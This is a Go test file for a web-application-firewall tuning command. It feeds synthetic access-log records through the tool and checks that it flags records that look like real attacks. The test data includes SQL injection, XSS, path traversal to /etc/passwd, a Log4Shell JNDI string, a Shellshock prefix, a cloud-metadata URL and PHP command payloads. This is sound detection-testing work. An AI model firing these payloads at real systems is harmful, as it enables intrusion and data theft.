package main

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/internal/cli"
	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/tune"
	"github.com/stretchr/testify/require"
)

// asked is a record of a client that asks for something.
func asked(client, argument string) string {
	return fmt.Sprintf("{\"remote_addr\":%q,\"request\":\"GET /?q=%s HTTP/1.1\",\"status\":\"200\",\"http_host\":\"a.example\",\"http_user_agent\":\"Mozilla/5.0\"}\n",
		client, url.QueryEscape(argument))
}

func TestTuneWarnsOfAttacksAmongCleanRecords(t *testing.T) {
	const (
		sql  = "1' or 1=1--"
		xss  = "<script>alert(1)</script>"
		path = "../../../etc/passwd"
	)
	scanner := strings.Replace(asked("192.0.2.1", "a"), "Mozilla/5.0", "sqlmap/1.7", 1)
	for name, c := range map[string]struct {
		records string
		why     []string // of each record that looks like an attack
	}{
		"SQL alone":                        {asked("192.0.2.1", sql), nil},
		"much of it":                       {strings.Repeat(asked("192.0.2.1", sql), 20), nil},
		"a script alone":                   {asked("192.0.2.1", xss), nil},
		"policy":                           {strings.Replace(asked("192.0.2.1", "a"), "GET", "PUT", 1), nil},
		"nothing at all":                   {asked("192.0.2.1", "a"), nil},
		"Log4Shell":                        {asked("192.0.2.1", "${jndi:ldap://x.example/a}"), []string{"rule 944150 found Log4Shell"}},
		"Log4Shell among false alarms":     {asked("192.0.2.2", sql) + asked("192.0.2.1", "${jndi:ldap://x.example/a}"), []string{"rule 944150 found Log4Shell"}},
		"Shellshock":                       {asked("192.0.2.1", "() { :;}; echo"), []string{"rule 932171 found Shellshock"}},
		"a scanner":                        {scanner, []string{"rule 913100 found a scanner"}},
		"metadata of a cloud":              {asked("192.0.2.1", "http://169.254.169.254/latest/meta-data/"), []string{"rule 934110 found cloud metadata"}},
		"several rules for a path":         {asked("192.0.2.1", path), []string{"4 rules found code or paths: lfi, rce"}},
		"three kinds in one record":        {asked("192.0.2.1", sql+xss+"<?php system('id');"), []string{"it alerts with "}},
		"a client with three kinds":        {asked("192.0.2.1", sql) + asked("192.0.2.1", xss) + asked("192.0.2.1", "<?php phpinfo();") + asked("192.0.2.2", sql), []string{"its client alerts with ", "its client alerts with ", "its client alerts with "}},
		"all through one proxy":            {asked("192.0.2.1", sql) + asked("192.0.2.1", xss) + asked("192.0.2.1", "<?php phpinfo();"), nil},
		"two kinds, of one client of two":  {asked("192.0.2.1", sql) + asked("192.0.2.1", xss) + asked("192.0.2.2", sql), nil},
		"three kinds, of clients together": {asked("192.0.2.1", sql) + asked("192.0.2.2", xss) + asked("192.0.2.3", "<?php phpinfo();"), nil},
	} {
		t.Run(name, func(t *testing.T) {
			args := []string{"tune", small, "--rule-packs", "off", "-"}
			table := wafctl(strings.NewReader(c.records), nil, args...)
			lines := wafctl(strings.NewReader(c.records), nil, append(args, "--output", "json")...)
			if c.why == nil {
				require.NotContains(t, table.out, "Before you exclude anything")
				require.NotContains(t, lines.out, "attacks")
				require.Empty(t, lines.err)
				return
			}
			before, _, _ := strings.Cut(table.out, "REMOVES")
			require.Contains(t, before, fmt.Sprintf("Before you exclude anything: %s look", cli.Count(len(c.why), "record")))
			for _, why := range c.why {
				require.Contains(t, before, why)
			}
			require.Equal(t, len(c.why), strings.Count(before, "GET /"), before)
			require.Contains(t, table.out, "  ! ")
			require.Contains(t, lines.out, `"attacks":`)
			require.Contains(t, lines.err, "warning: "+cli.Count(len(c.why), "record")+" with signs of an attack")
			require.Contains(t, wafctl(strings.NewReader(c.records), nil, append(args, "--output", "seclang")...).out, "# Check first: the rule matched in ")
		})
	}
}

func TestRulesThatCountAsPreciseAreInTheCoreRuleSet(t *testing.T) {
	got := wafctl(nil, nil, "rules", "--output", "json", "--blocking-paranoia", "4")
	for id := range tune.Precise {
		require.Contains(t, got.out, fmt.Sprintf(`"id":%d,`, id))
	}
}

func TestTuneNamesTheFirstAttacksOnly(t *testing.T) {
	got := wafctl(strings.NewReader(strings.Repeat(asked("192.0.2.1", "${jndi:ldap://x.example/\x1b[31m}"), tune.MaxSuspects+5)), nil, "tune", "-")
	require.Equal(t, tune.MaxSuspects, strings.Count(got.out, "rule 944150 found Log4Shell"))
	require.Contains(t, got.out, "  and 5 more\n")
	require.NotContains(t, got.out, "\x1b")
}
